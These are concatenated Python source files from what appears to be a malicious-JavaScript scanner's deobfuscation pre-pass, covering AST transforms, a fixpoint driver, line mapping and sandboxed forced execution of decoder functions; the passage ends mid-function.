    #: Bytes of string payload recovered by decoding rewrites
    #: (fromCharCode/atob/unescape/escape-soup/string-array/eval bodies).
    decoded_bytes: int = 0
    #: Forced-execution outcome counts (:data:`FORCED_OUTCOMES` keys).
    forced_exec: dict[str, int] = field(default_factory=dict)
    #: Human-readable caveats, e.g. a decoder that hit its op budget or a
    #: pass budget exhausted before fixpoint — the "degraded
    #: normalization" note surfaced in verdict provenance.
    notes: list[str] = field(default_factory=list)
    input_bytes: int = 0
    output_bytes: int = 0
    elapsed_ms: float = 0.0
    #: Partial normalized→raw line map (statement granularity), present
    #: only when ``changed`` — analysis over the normalized text uses it
    #: to report spans in the script the caller actually submitted.
    line_map: dict[int, int] = field(default_factory=dict)

    @property
    def total_rewrites(self) -> int:
        return sum(self.rewrites.values())

    @property
    def interesting(self) -> bool:
        """Worth attaching to a verdict: anything but a clean no-op.

        Clean input converges with zero rewrites and no notes; omitting
        the report then keeps verdicts byte-identical with the pass on.
        Forced executions that succeeded without rewriting anything are
        invisible to the verdict, so they do not count; failed ones
        leave a note and therefore do.
        """
        return bool(self.changed or self.degraded or self.notes)

    def count(self, stage: str, n: int = 1) -> None:
        if n:
            self.rewrites[stage] = self.rewrites.get(stage, 0) + n

    def count_forced(self, outcome: str) -> None:
        self.forced_exec[outcome] = self.forced_exec.get(outcome, 0) + 1

    def note(self, message: str) -> None:
        if message not in self.notes:
            self.notes.append(message)

    def to_dict(self) -> dict:
        out: dict = {
            "changed": self.changed,
            "degraded": self.degraded,
            "fixpoint": self.fixpoint,
            "iterations": self.iterations,
            "rewrites": dict(self.rewrites),
            "decoded_bytes": self.decoded_bytes,
            "input_bytes": self.input_bytes,
            "output_bytes": self.output_bytes,
            "elapsed_ms": round(self.elapsed_ms, 3),
        }
        if self.degraded_reason is not None:
            out["degraded_reason"] = self.degraded_reason
        if self.forced_exec:
            out["forced_exec"] = dict(self.forced_exec)
        if self.notes:
            out["notes"] = list(self.notes)
        if self.line_map:
            # JSON object keys are strings; from_dict converts them back.
            out["line_map"] = {str(k): v for k, v in self.line_map.items()}
        return out

    @classmethod
    def from_dict(cls, data: dict) -> "NormalizationReport":
        return cls(
            changed=data.get("changed", False),
            degraded=data.get("degraded", False),
            degraded_reason=data.get("degraded_reason"),
            fixpoint=data.get("fixpoint", False),
            iterations=data.get("iterations", 0),
            rewrites=dict(data.get("rewrites", {})),
            decoded_bytes=data.get("decoded_bytes", 0),
            forced_exec=dict(data.get("forced_exec", {})),
            notes=list(data.get("notes", [])),
            input_bytes=data.get("input_bytes", 0),
            output_bytes=data.get("output_bytes", 0),
            elapsed_ms=data.get("elapsed_ms", 0.0),
            line_map={int(k): int(v) for k, v in data.get("line_map", {}).items()},
        )
