"""Shared AST plumbing for the normalizer transforms.

The transforms rewrite in place through ``Node.replace_child``, so they
need (a) a mutation-tolerant post-order walk that hands each node its
parent, (b) JS-faithful literal semantics (truthiness, number→string,
``parseInt``), and (c) a conservative free-variable analysis for the
self-containment check behind forced execution.
"""

from __future__ import annotations

import math
import re
from typing import Iterator

from repro.jsparser import ast_nodes as ast

#: Host globals a "self-contained" decoder may reference: pure, available
#: in the :mod:`repro.jsinterp` sandbox, and free of observable effects.
SAFE_GLOBALS = frozenset(
    {
        "String",
        "Array",
        "Math",
        "JSON",
        "parseInt",
        "parseFloat",
        "isNaN",
        "unescape",
        "escape",
        "undefined",
        "NaN",
        "Infinity",
    }
)

#: Words that cannot appear after ``.`` in our ES5-ish parser — keep
#: computed access for them when simplifying ``obj["name"]``.
RESERVED_WORDS = frozenset(
    """break case catch class const continue debugger default delete do else
    enum export extends false finally for function if import in instanceof
    let new null return static super switch this throw true try typeof var
    void while with yield""".split()
)

_IDENTIFIER = re.compile(r"^[A-Za-z_$][A-Za-z0-9_$]*$")


def is_identifier_name(text: str) -> bool:
    return bool(_IDENTIFIER.match(text)) and text not in RESERVED_WORDS


def postorder(root: ast.Node) -> Iterator[tuple[ast.Node, ast.Node | None]]:
    """Yield ``(node, parent)`` post-order, children before parents.

    Iterative (no RecursionError on deep obfuscated chains) and safe
    under the transforms' mutation pattern: replacing an already-yielded
    node inside its parent does not disturb the remaining schedule.
    """
    stack: list[tuple[ast.Node, ast.Node | None, bool]] = [(root, None, False)]
    while stack:
        node, parent, expanded = stack.pop()
        if expanded:
            yield node, parent
            continue
        stack.append((node, parent, True))
        for child in node.children():
            stack.append((child, node, False))


def is_literal(node: ast.Node | None) -> bool:
    return node is not None and node.type == "Literal"


def is_literal_expr(node: ast.Node | None) -> bool:
    """True for literals and array literals built only from literals.

    Packers commonly pass code tables as array literals —
    ``unpack([54, 110, …])`` — which are just as inert as scalar
    literals for forced execution.
    """
    if node is None:
        return False
    if node.type == "Literal":
        return True
    if node.type == "ArrayExpression":
        return all(is_literal_expr(e) for e in node.elements)
    return False


def literal(value: object) -> ast.Literal:
    """A synthetic literal; ``raw`` stays empty so codegen re-emits it
    minimally."""
    return ast.Literal(value, "")


def truthy(value: object) -> bool:
    """ECMAScript ToBoolean for the primitive values literals carry."""
    if value is None:
        return False
    if isinstance(value, float) and math.isnan(value):
        return False
    return bool(value)


def is_number(value: object) -> bool:
    return isinstance(value, (int, float)) and not isinstance(value, bool)


def js_number_to_string(value: int | float) -> str | None:
    """ECMAScript ToString for the numbers we fold; ``None`` = don't fold."""
    if isinstance(value, bool):  # pragma: no cover - callers filter bools
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if math.isnan(value) or math.isinf(value):
        return None
    if value.is_integer() and abs(value) < 2**53:
        return str(int(value))
    # Fractional floats format differently between repr() and JS in edge
    # cases (exponents, very long fractions); fold only the simple shape.
    text = repr(value)
    return text if "e" not in text and "E" not in text else None


def to_int32(value: float) -> int:
    if math.isnan(value) or math.isinf(value):
        return 0
    n = int(value) & 0xFFFFFFFF
    return n - 0x100000000 if n >= 0x80000000 else n


def to_uint32(value: float) -> int:
    if math.isnan(value) or math.isinf(value):
        return 0
    return int(value) & 0xFFFFFFFF


_PARSE_INT_DIGITS = "0123456789abcdefghijklmnopqrstuvwxyz"


def js_parse_int(text: str, radix: int | None = None) -> int | None:
    """``parseInt`` semantics (maximal valid prefix); ``None`` for NaN."""
    s = text.strip()
    sign = 1
    if s[:1] in ("+", "-"):
        sign = -1 if s[0] == "-" else 1
        s = s[1:]
    if radix in (None, 0, 16) and s[:2].lower() == "0x":
        radix, s = 16, s[2:]
    if radix is None or radix == 0:
        radix = 10
    if not 2 <= radix <= 36:
        return None
    digits = _PARSE_INT_DIGITS[:radix]
    end = 0
    while end < len(s) and s[end].lower() in digits:
        end += 1
    if end == 0:
        return None
    return sign * int(s[:end], radix)


def js_unescape(text: str) -> str:
    """``unescape``: decode ``%XX`` and ``%uXXXX`` sequences."""
    out: list[str] = []
    i = 0
    while i < len(text):
        ch = text[i]
        if ch == "%" and text[i + 1 : i + 2] == "u" and len(text) >= i + 6:
            code = text[i + 2 : i + 6]
            try:
                out.append(chr(int(code, 16)))
                i += 6
                continue
            except ValueError:
                pass
        elif ch == "%" and len(text) >= i + 3:
            code = text[i + 1 : i + 3]
            try:
                out.append(chr(int(code, 16)))
                i += 3
                continue
            except ValueError:
                pass
        out.append(ch)
        i += 1
    return "".join(out)


# -------------------------------------------------------- free identifiers


def declared_names(root: ast.Node) -> set[str]:
    """Every name bound anywhere inside ``root``.

    Deliberately scope-blind (a nested function's params count as bound
    for the whole subtree): over-approximating *bound* under-approximates
    *free*, and a missed free variable only makes the sandboxed mini-run
    fail — which degrades to a no-op — never a wrong fold.
    """
    names: set[str] = set()
    stack = [root]
    while stack:
        node = stack.pop()
        type_ = node.type
        if type_ in ("FunctionDeclaration", "FunctionExpression", "ArrowFunctionExpression"):
            if getattr(node, "id", None) is not None:
                names.add(node.id.name)
            for param in node.params:
                if param.type == "Identifier":
                    names.add(param.name)
        elif type_ == "VariableDeclarator" and node.id.type == "Identifier":
            names.add(node.id.name)
        elif type_ == "CatchClause" and node.param is not None and node.param.type == "Identifier":
            names.add(node.param.name)
        stack.extend(node.children())
    return names


def referenced_names(root: ast.Node) -> set[str]:
    """Identifier names in *reference* position inside ``root``."""
    names: set[str] = set()
    for node, parent in postorder(root):
        if node.type != "Identifier":
            continue
        if parent is not None:
            ptype = parent.type
            if ptype == "MemberExpression" and parent.property is node and not parent.computed:
                continue
            if ptype == "Property" and parent.key is node and not getattr(parent, "computed", False):
                continue
            if ptype in ("FunctionDeclaration", "FunctionExpression", "ArrowFunctionExpression"):
                continue  # own id or param
            if ptype == "VariableDeclarator" and parent.id is node:
                continue
            if ptype in ("BreakStatement", "ContinueStatement", "LabeledStatement"):
                continue
            if ptype == "CatchClause" and parent.param is node:
                continue
        names.add(node.name)
    return names


def free_names(fn: ast.Node) -> set[str]:
    """Free identifiers of a function node (conservative, see above)."""
    return referenced_names(fn) - declared_names(fn) - {"this", "arguments"}
