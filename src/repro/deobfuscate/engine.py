"""The fixpoint driver: ``Deobfuscator.normalize`` source → source.

Runs the stage list repeatedly until a full pass applies zero rewrites
(fixpoint) or the pass budget / scan deadline trips.  The contract the
rest of the pipeline relies on:

* **never raises** — parse failures, oversized input, interpreter
  explosions, even the chaos seam all degrade to returning the original
  source with ``report.degraded`` set;
* **byte-identical on clean input** — when no rewrite applies, the
  *original* text is returned verbatim (not regenerated), so content
  keys, caches, and verdicts are untouched by enabling the pass;
* **output always parses** — rewritten source is reparsed before being
  handed to path extraction; a codegen bug degrades instead of
  poisoning the scan.
"""

from __future__ import annotations

import time

from repro.faults import ScanLimits
from repro.faults.inject import maybe_inject
from repro.jsparser import parse

from .forced import ForcedExec
from .linemap import generate_with_line_map
from .report import FORCED_OUTCOMES, STAGE_NAMES, NormalizationReport
from .stringarray import UnpackStringArrays
from .unflatten import Unflatten
from .transforms import (
    ConstantFold,
    DeadBranches,
    DecodeStrings,
    EvalUnwrap,
    NormalizeContext,
    SimplifyMembers,
    Transform,
)

#: Fixpoint-iteration histogram buckets: small integers — most scripts
#: converge in 1 (clean) or 2-3 (one obfuscation layer) passes.
ITERATION_BUCKETS = (1.0, 2.0, 3.0, 4.0, 6.0, 8.0)


def default_transforms() -> list[Transform]:
    """The stage list in execution order (see DESIGN.md §12)."""
    return [
        ConstantFold(),
        SimplifyMembers(),
        DecodeStrings(),
        UnpackStringArrays(),
        Unflatten(),
        EvalUnwrap(),
        DeadBranches(),
        ForcedExec(),
    ]


class Deobfuscator:
    """Staged AST-to-AST normalizer run ahead of path extraction.

    Args:
        limits: optional :class:`ScanLimits`; the ``analyze`` deadline
            bounds one whole ``normalize`` call including forced runs.
        metrics: optional :class:`repro.obs.MetricsRegistry`; all
            ``repro_deobfuscate_*`` series are pre-registered at zero so
            ``/metrics`` exposes them before the first obfuscated input.
        max_passes: fixpoint pass budget per script.
        max_source_bytes: scripts larger than this skip normalization
            (degraded no-op) rather than risk the deadline.
    """

    def __init__(
        self,
        limits: ScanLimits | None = None,
        metrics=None,
        max_passes: int = 8,
        max_source_bytes: int = 2_000_000,
        interp_max_steps: int = 200_000,
        max_forced_calls: int = 32,
        transforms: list[Transform] | None = None,
    ):
        self.limits = limits
        self.max_passes = max_passes
        self.max_source_bytes = max_source_bytes
        self.interp_max_steps = interp_max_steps
        self.max_forced_calls = max_forced_calls
        self.transforms = transforms if transforms is not None else default_transforms()
        self._m_scripts = None
        self._m_rewrites = None
        self._m_forced = None
        self._m_iterations = None
        if metrics is not None:
            self._m_scripts = {
                result: metrics.counter(
                    "repro_deobfuscate_scripts_total",
                    "Scripts through the deobfuscation pre-pass, by result",
                    {"result": result},
                )
                for result in ("changed", "unchanged", "degraded")
            }
            self._m_rewrites = {
                stage: metrics.counter(
                    "repro_deobfuscate_rewrites_total",
                    "Normalizer rewrites applied, by stage",
                    {"stage": stage},
                )
                for stage in STAGE_NAMES
            }
            self._m_forced = {
                outcome: metrics.counter(
                    "repro_deobfuscate_forced_exec_total",
                    "Forced-execution sandbox runs, by outcome",
                    {"outcome": outcome},
                )
                for outcome in FORCED_OUTCOMES
            }
            self._m_iterations = metrics.histogram(
                "repro_deobfuscate_fixpoint_iterations",
                "Fixpoint passes per normalized script",
                buckets=ITERATION_BUCKETS,
            )

    # ------------------------------------------------------------------ API

    def normalize(self, source: str, name: str | None = None) -> tuple[str, NormalizationReport]:
        """Normalize one script; returns ``(source, report)``.

        The returned source is the original text verbatim unless at
        least one rewrite survived codegen + reparse verification.
        """
        started = time.perf_counter()
        report = NormalizationReport(input_bytes=len(source.encode("utf-8", "replace")))
        out = source
        try:
            out = self._normalize(source, report)
        except Exception as error:  # the never-raises contract
            report.degraded = True
            report.degraded_reason = f"{type(error).__name__}: {error}"[:200]
            report.note("degraded normalization: original source scanned")
            report.changed = False
            out = source
        report.output_bytes = len(out.encode("utf-8", "replace"))
        report.elapsed_ms = 1000.0 * (time.perf_counter() - started)
        self._record(report)
        return out, report

    # ------------------------------------------------------------ internals

    def _normalize(self, source: str, report: NormalizationReport) -> str:
        if len(source) > self.max_source_bytes:
            report.degraded = True
            report.degraded_reason = (
                f"input {len(source)} chars exceeds max_source_bytes={self.max_source_bytes}"
            )
            report.note("degraded normalization: original source scanned")
            return source
        maybe_inject(source, stage="deobfuscate")  # chaos seam
        deadline = None
        if self.limits is not None:
            deadline = time.monotonic() + self.limits.deadline_for("analyze")
        ctx = NormalizeContext(
            report,
            deadline=deadline,
            interp_max_steps=self.interp_max_steps,
            max_forced_calls=self.max_forced_calls,
        )
        program = parse(source)
        total = 0
        for index in range(self.max_passes):
            report.iterations = index + 1
            applied = 0
            for transform in self.transforms:
                if ctx.expired:
                    break
                applied += transform.apply(program, ctx)
            total += applied
            if applied == 0:
                report.fixpoint = True
                break
            if ctx.expired:
                report.note("deadline reached before fixpoint")
                break
        else:
            report.note(f"pass budget ({self.max_passes}) reached before fixpoint")
        if total == 0:
            return source
        out, line_map = generate_with_line_map(program)
        parse(out)  # reparse verification: emitted source must be valid
        if out == source:
            return source
        report.changed = True
        report.line_map = line_map
        return out

    def _record(self, report: NormalizationReport) -> None:
        if self._m_scripts is None:
            return
        result = "degraded" if report.degraded else ("changed" if report.changed else "unchanged")
        self._m_scripts[result].inc()
        for stage, count in report.rewrites.items():
            counter = self._m_rewrites.get(stage)
            if counter is not None:
                counter.inc(count)
        for outcome, count in report.forced_exec.items():
            counter = self._m_forced.get(outcome)
            if counter is not None:
                counter.inc(count)
        if report.iterations:
            self._m_iterations.observe(float(report.iterations))


def normalize_source(source: str, **kwargs) -> tuple[str, NormalizationReport]:
    """One-shot convenience: ``Deobfuscator(**kwargs).normalize(source)``."""
    return Deobfuscator(**kwargs).normalize(source)
