"""Normalized→raw line mapping for deobfuscated output.

When the pre-pass rewrites a script, analysis runs over the *normalized*
text — but users and provenance need spans in the script they actually
submitted.  The mapping rides on statement granularity: transforms
mutate the AST in place, so statements that survive normalization keep
their original ``loc``, while transform-created nodes carry the default
``(0, 0)`` and simply drop out of the map (the map is partial by
design; consumers fall back to the nearest preceding mapped line).

The recorder subclasses the code generator and captures each
statement's emitted chunk, then locates every chunk in the final output
with a forward-moving cursor — parents first (pre-order), children
found inside their parent's span.
"""

from __future__ import annotations

from repro.jsparser import ast_nodes as ast
from repro.jsparser.codegen import CodeGenerator
from repro.jsparser.visitor import walk


class _RecordingGenerator(CodeGenerator):
    """Code generator that remembers each statement's emitted text."""

    def __init__(self, indent: str = "  "):
        super().__init__(indent=indent)
        self.chunks: dict[int, str] = {}

    def _statement(self, node: ast.Node) -> str:
        text = super()._statement(node)
        self.chunks[id(node)] = text
        return text


def _locate(out: str, chunk: str, cursor: int) -> int:
    """First occurrence of a statement chunk at/after ``cursor``.

    If/else and do-while emitters strip leading/trailing whitespace off
    child chunks before splicing them, so fall back to trimmed variants.
    """
    for candidate in (chunk, chunk.lstrip(), chunk.strip()):
        if not candidate:
            continue
        position = out.find(candidate, cursor)
        if position >= 0:
            return position
    return -1


def generate_with_line_map(program: ast.Program, indent: str = "  ") -> tuple[str, dict[int, int]]:
    """Render ``program`` and map its output lines to original lines.

    Returns ``(source, line_map)`` where ``line_map[normalized_line] =
    raw_line`` for every surviving statement that still carries its
    pre-normalization span.  Map construction never fails the render: on
    any internal surprise the text is returned with an empty map.
    """
    generator = _RecordingGenerator(indent=indent)
    out = generator.generate(program)
    try:
        line_map = _build_map(program, out, generator.chunks)
    except Exception:  # pragma: no cover - map is best-effort
        line_map = {}
    return out, line_map


def _build_map(program: ast.Program, out: str, chunks: dict[int, str]) -> dict[int, int]:
    line_map: dict[int, int] = {}
    cursor = 0
    for node in walk(program):
        chunk = chunks.get(id(node))
        if chunk is None:
            continue
        position = _locate(out, chunk, cursor)
        if position < 0:
            continue
        cursor = position + 1  # children are located inside this span
        raw_line = node.loc[0]
        if raw_line <= 0:
            continue  # transform-created node: no original span
        normalized_line = out.count("\n", 0, position) + 1
        line_map.setdefault(normalized_line, raw_line)
    return line_map
