"""Deobfuscation pre-pass: staged AST-to-AST normalization before
path extraction.

JSRevealer's robustness claim rests on seeing *through* obfuscation;
this package is the seeing-through.  :class:`Deobfuscator` parses a
script, runs a list of composable :class:`Transform` stages to fixpoint
(constant folding, escape/charcode/base64 decoding, string-array
unpacking, eval unwrapping, dead-branch elimination, bounded forced
execution), and emits normalized source plus a
:class:`NormalizationReport` that travels with the verdict as
provenance.  Failure of any kind degrades to a no-op — the scan always
proceeds on the original source.
"""

from .engine import Deobfuscator, default_transforms, normalize_source
from .forced import BoundedInterpreter, ForcedExec, run_bounded
from .report import FORCED_OUTCOMES, STAGE_NAMES, NormalizationReport
from .stringarray import UnpackStringArrays
from .unflatten import Unflatten
from .transforms import (
    ConstantFold,
    DeadBranches,
    DecodeStrings,
    EvalUnwrap,
    NormalizeContext,
    SimplifyMembers,
    Transform,
)

__all__ = [
    "Deobfuscator",
    "default_transforms",
    "normalize_source",
    "BoundedInterpreter",
    "ForcedExec",
    "run_bounded",
    "FORCED_OUTCOMES",
    "STAGE_NAMES",
    "NormalizationReport",
    "UnpackStringArrays",
    "Unflatten",
    "ConstantFold",
    "DeadBranches",
    "DecodeStrings",
    "EvalUnwrap",
    "NormalizeContext",
    "SimplifyMembers",
    "Transform",
]
