"""Stage 5: bounded forced execution of self-contained decoder functions.

JSForce-style: when an obfuscator ships its own decoder (a function that
turns numbers or packed strings back into the real payload), static
rewriting cannot always keep up with the arithmetic inside it.  Instead,
any *self-contained* function — free variables limited to the pure
:data:`~repro.deobfuscate.astutil.SAFE_GLOBALS` — called with literal
arguments is executed for real inside :class:`repro.jsinterp.Interpreter`,
and the call site is replaced by the string it returns.

Safety model (the reason this is allowed near untrusted input):

* every evaluation runs in a **fresh** interpreter whose host is the
  in-memory :class:`~repro.jsinterp.HostRecorder` — no filesystem, no
  network, no process state;
* the op budget (``NormalizeContext.interp_max_steps``), the wall-clock
  deadline, a string-length cap, and an allocation cap on ``Array(n)``
  bound every run — an infinite loop or a memory bomb surfaces as
  ``budget_exceeded``, not a hung scan;
* the per-script forced-call budget caps how many evaluations one input
  can demand;
* any failure is an outcome counter plus a provenance note; the call
  site is simply left alone.
"""

from __future__ import annotations

import time
from typing import Any

from repro.jsinterp import (
    BudgetExceeded,
    Interpreter,
    JSArray,
    JSInterpreterError,
    JSUndefined,
    NativeFunction,
    ThrowSignal,
    UnsupportedFeature,
)
from repro.jsparser import ast_nodes as ast, generate

from .astutil import SAFE_GLOBALS, free_names, is_literal_expr, literal, postorder
from .transforms import NormalizeContext, Transform

#: Check the wall-clock deadline once per this many interpreter steps —
#: cheap enough to leave on, frequent enough that a spin loop cannot
#: outlive the scan deadline by more than a few microseconds of work.
_DEADLINE_STRIDE = 256


class BoundedInterpreter(Interpreter):
    """An :class:`Interpreter` with wall-clock, string, and alloc caps.

    The base class already enforces an op-count budget; forced execution
    additionally needs (a) the scan deadline to apply *inside* a single
    evaluation, (b) a cap on string growth (``s += s`` doubling bombs
    stay O(cap), not O(2^steps)), and (c) a cap on ``Array(n)``
    preallocation, which the stock host performs eagerly.
    """

    def __init__(
        self,
        max_steps: int,
        deadline: float | None = None,
        max_string_len: int = 1_000_000,
        max_elements: int = 1_000_000,
    ):
        super().__init__(max_steps=max_steps)
        self.deadline = deadline
        self.max_string_len = max_string_len
        self.max_elements = max_elements
        self._cap_array_global()

    def _tick(self) -> None:
        super()._tick()
        if (
            self.deadline is not None
            and self.steps % _DEADLINE_STRIDE == 0
            and time.monotonic() >= self.deadline
        ):
            raise BudgetExceeded("deadline exceeded during forced execution")

    def _binary(self, op: str, left: Any, right: Any) -> Any:
        result = super()._binary(op, left, right)
        if isinstance(result, str) and len(result) > self.max_string_len:
            raise BudgetExceeded(
                f"string result exceeds {self.max_string_len} chars"
            )
        return result

    def _cap_array_global(self) -> None:
        stock = self.global_env.bindings.get("Array")
        if not isinstance(stock, NativeFunction):  # pragma: no cover - host drift
            return
        max_elements = self.max_elements

        def construct(this: Any, args: list[Any]) -> JSArray:
            if len(args) == 1 and isinstance(args[0], float):
                if args[0] > max_elements:
                    raise BudgetExceeded(
                        f"Array({int(args[0])}) exceeds {max_elements} elements"
                    )
                return JSArray([JSUndefined] * int(args[0]))
            return JSArray(list(args))

        capped = NativeFunction("Array", construct)
        capped.properties = getattr(stock, "properties", {})  # type: ignore[attr-defined]
        self.global_env.bindings["Array"] = capped


def run_bounded(source: str, ctx: NormalizeContext) -> tuple[str, Any]:
    """Evaluate ``source`` in a fresh sandbox; return ``(outcome, value)``.

    Outcome is one of :data:`~repro.deobfuscate.report.FORCED_OUTCOMES`;
    the value is only meaningful for ``"ok"``.  Every call counts against
    the per-script forced-call budget and lands in the report's
    ``forced_exec`` tally, whichever stage requested it.
    """
    if ctx.forced_calls >= ctx.max_forced_calls:
        ctx.report.count_forced("budget_exceeded")
        ctx.report.note("forced-execution call budget exhausted")
        return "budget_exceeded", None
    ctx.forced_calls += 1
    try:
        interp = BoundedInterpreter(
            max_steps=ctx.interp_max_steps,
            deadline=ctx.deadline,
            max_string_len=ctx.max_decoded_len,
            max_elements=ctx.max_decoded_len,
        )
        value = interp.eval_source(source)
    except BudgetExceeded:
        ctx.report.count_forced("budget_exceeded")
        return "budget_exceeded", None
    except UnsupportedFeature:
        ctx.report.count_forced("unsupported")
        return "unsupported", None
    except (ThrowSignal, JSInterpreterError, RecursionError):
        ctx.report.count_forced("error")
        return "error", None
    except Exception:
        ctx.report.count_forced("error")
        return "error", None
    ctx.report.count_forced("ok")
    return "ok", value


class ForcedExec(Transform):
    """Inline ``decoder(literal…)`` calls by running the decoder."""

    name = "forced_exec"

    def apply(self, program: ast.Program, ctx: NormalizeContext) -> int:
        functions = self._candidates(program)
        if not functions:
            return 0
        parents: dict[int, ast.Node] = {}
        sites: list[ast.Node] = []
        for node, parent in postorder(program):
            if parent is not None:
                parents[id(node)] = parent
            if (
                node.type == "CallExpression"
                and node.callee.type == "Identifier"
                and node.callee.name in functions
                and node.arguments
                and all(is_literal_expr(a) for a in node.arguments)
            ):
                sites.append(node)
        count = 0
        memo: dict[str, tuple[str, Any]] = {}
        failed: set[str] = set()
        for call in sites:
            if ctx.expired:
                break
            name = call.callee.name
            if name in failed:
                continue
            parent = parents.get(id(call))
            if parent is None:
                continue
            try:
                key = generate(
                    ast.Program([functions[name], ast.ExpressionStatement(call)])
                )
            except Exception:
                continue
            if key not in memo:
                memo[key] = run_bounded(key, ctx)
            outcome, value = memo[key]
            if outcome != "ok":
                failed.add(name)
                ctx.report.note(f"forced execution of {name} degraded ({outcome})")
                continue
            if not isinstance(value, str) or len(value) > ctx.max_decoded_len:
                failed.add(name)
                continue
            if parent.replace_child(call, literal(value)):
                ctx.report.decoded_bytes += len(value)
                count += 1
        ctx.report.count(self.name, count)
        return count

    @classmethod
    def _candidates(cls, program: ast.Program) -> dict[str, ast.Node]:
        """Top-level decoder-shaped functions, free vars all pure globals.

        The decoder-shape gate matters beyond cost: without it, any pure
        helper in a *clean* script called with literal args would get a
        sandbox run, and the resulting forced-exec tally would attach a
        NormalizationReport to clean verdicts — breaking the
        byte-identical-on-clean-input invariant.
        """
        functions: dict[str, ast.Node] = {}
        for stmt in program.body:
            if stmt.type != "FunctionDeclaration" or stmt.id is None:
                continue
            if not cls._looks_like_decoder(stmt):
                continue
            if free_names(stmt) - SAFE_GLOBALS:
                continue
            functions[stmt.id.name] = stmt
        return functions

    #: Non-computed member properties whose presence marks a decoder body.
    _DECODER_MEMBERS = frozenset({"fromCharCode", "charCodeAt", "codePointAt"})
    #: Free-standing decode builtins likewise.
    _DECODER_CALLS = frozenset({"unescape", "atob", "parseInt"})

    @classmethod
    def _looks_like_decoder(cls, fn: ast.Node) -> bool:
        for node, parent in postorder(fn):
            if node.type != "Identifier":
                continue
            if (
                parent is not None
                and parent.type == "MemberExpression"
                and parent.property is node
                and not parent.computed
                and node.name in cls._DECODER_MEMBERS
            ):
                return True
            if (
                parent is not None
                and parent.type == "CallExpression"
                and parent.callee is node
                and node.name in cls._DECODER_CALLS
            ):
                return True
        return False
