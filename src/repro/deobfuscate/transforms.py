"""The composable AST→AST transforms behind the deobfuscation pre-pass.

Each transform is one :class:`Transform` subclass with a stable ``name``
(the per-stage rewrite counter label) and an ``apply`` that mutates the
program in place, returning how many rewrites it made.  The engine runs
the stage list to fixpoint; every transform must therefore be
*monotone* — a rewrite must never reintroduce a shape an earlier stage
would rewrite back — or the pass budget is the only thing stopping an
infinite ping-pong.

All transforms are semantics-preserving on the shapes they match and
refuse anything they cannot prove out; the worst case is always "no
rewrite", never "wrong rewrite".
"""

from __future__ import annotations

import base64
import binascii
import time

from repro.jsparser import JSSyntaxError, ast_nodes as ast, parse

from .astutil import (
    is_identifier_name,
    is_literal,
    is_number,
    js_number_to_string,
    js_parse_int,
    js_unescape,
    literal,
    postorder,
    to_int32,
    to_uint32,
    truthy,
)
from .report import NormalizationReport


class NormalizeContext:
    """Per-``normalize()`` state shared by the stages: the report being
    built, the wall-clock deadline, and the forced-execution budgets."""

    def __init__(
        self,
        report: NormalizationReport,
        deadline: float | None = None,
        interp_max_steps: int = 200_000,
        max_forced_calls: int = 32,
        max_decoded_len: int = 1_000_000,
    ):
        self.report = report
        self.deadline = deadline  # absolute time.monotonic() cutoff
        self.interp_max_steps = interp_max_steps
        self.max_forced_calls = max_forced_calls
        self.max_decoded_len = max_decoded_len
        self.forced_calls = 0

    @property
    def expired(self) -> bool:
        return self.deadline is not None and time.monotonic() > self.deadline

    def remaining_s(self) -> float | None:
        if self.deadline is None:
            return None
        return max(0.0, self.deadline - time.monotonic())


class Transform:
    """One named rewrite stage; subclasses override :meth:`apply`."""

    name = "transform"

    def apply(self, program: ast.Program, ctx: NormalizeContext) -> int:
        raise NotImplementedError

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"<{type(self).__name__}>"


# ------------------------------------------------------------------ stage 1


class ConstantFold(Transform):
    """Fold literal-only expressions: arithmetic, comparisons, bitwise
    ops, string concatenation, and unary ``-``/``+``/``!``/``~``.

    Bottom-up, so a whole ``"a" + "b" + "c"`` chain (or an opaque
    predicate like ``15 === 39``) collapses in a single pass.
    """

    name = "fold"

    def apply(self, program: ast.Program, ctx: NormalizeContext) -> int:
        count = 0
        for node, parent in postorder(program):
            if parent is None:
                continue
            folded = self._fold(node)
            if folded is not None and parent.replace_child(node, folded):
                count += 1
        ctx.report.count(self.name, count)
        return count

    def _fold(self, node: ast.Node) -> ast.Node | None:
        type_ = node.type
        if type_ == "BinaryExpression" and is_literal(node.left) and is_literal(node.right):
            return self._fold_binary(node.operator, node.left.value, node.right.value)
        if type_ == "UnaryExpression" and is_literal(node.argument):
            return self._fold_unary(node.operator, node.argument.value)
        if type_ == "LogicalExpression" and is_literal(node.left):
            if node.operator == "&&":
                return node.right if truthy(node.left.value) else node.left
            if node.operator == "||":
                return node.left if truthy(node.left.value) else node.right
        return None

    def _fold_binary(self, op: str, left: object, right: object) -> ast.Node | None:
        if op == "+":
            if isinstance(left, str) or isinstance(right, str):
                lhs = left if isinstance(left, str) else self._stringify(left)
                rhs = right if isinstance(right, str) else self._stringify(right)
                if lhs is None or rhs is None:
                    return None
                return literal(lhs + rhs)
            if is_number(left) and is_number(right):
                return self._number(left + right)
            return None
        if is_number(left) and is_number(right):
            if op == "-":
                return self._number(left - right)
            if op == "*":
                return self._number(left * right)
            if op == "/" and right != 0:
                return self._number(left / right)
            if op == "%" and right != 0:
                # JS % truncates toward zero; Python floors.
                import math

                return self._number(math.fmod(left, right))
            if op in ("&", "|", "^", "<<", ">>"):
                a, b = to_int32(left), to_int32(right)
                if op == "&":
                    return literal(to_int32(float(a & b)))
                if op == "|":
                    return literal(to_int32(float(a | b)))
                if op == "^":
                    return literal(to_int32(float(a ^ b)))
                shift = to_uint32(right) & 31
                if op == "<<":
                    return literal(to_int32(float((a << shift) & 0xFFFFFFFF)))
                return literal(a >> shift)
            if op == ">>>":
                return literal(to_uint32(left) >> (to_uint32(right) & 31))
        comparable = (
            (isinstance(left, str) and isinstance(right, str))
            or (is_number(left) and is_number(right))
        )
        if comparable:
            if op in ("==", "==="):
                return literal(left == right)
            if op in ("!=", "!=="):
                return literal(left != right)
            if op == "<":
                return literal(left < right)
            if op == ">":
                return literal(left > right)
            if op == "<=":
                return literal(left <= right)
            if op == ">=":
                return literal(left >= right)
        elif op in ("===", "!==") and type(left) is not type(right):
            return literal(op == "!==")
        return None

    def _fold_unary(self, op: str, value: object) -> ast.Node | None:
        if op == "!":
            return literal(not truthy(value))
        if op == "-" and is_number(value):
            return self._number(-value)
        if op == "+" and is_number(value):
            return self._number(+value)
        if op == "~" and is_number(value):
            return literal(to_int32(float(~to_int32(value))))
        return None

    @staticmethod
    def _stringify(value: object) -> str | None:
        if isinstance(value, bool):
